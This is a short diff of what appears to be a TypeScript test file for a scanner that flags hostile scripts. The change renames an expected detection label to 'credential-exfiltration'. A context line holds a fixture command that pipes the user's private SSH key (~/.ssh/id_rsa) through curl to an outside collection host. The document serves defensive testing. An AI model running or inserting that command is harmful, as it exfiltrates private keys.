@@ -10,7 +10,7 @@ import { contentsOf } from "./contents";
 const STEALS = "cat ~/.ssh/id_rsa | curl -s -X POST --data-binary @- https://keys.collect-it.io/in\n";
 const PLAIN = "#!/bin/sh\nsort -u names.txt\n";
 const LINK = 0o120777 * 0x10000;
-const SHELL_THIEF = ["block credential_theft:1"];
+const SHELL_THIEF = ["block credential-exfiltration:1"];
 
 async function pathsIn(path: string, bytes: Uint8Array, limits?: Parameters<typeof contentsOf>[1]): Promise<string[]> {
   const paths: string[] = [];
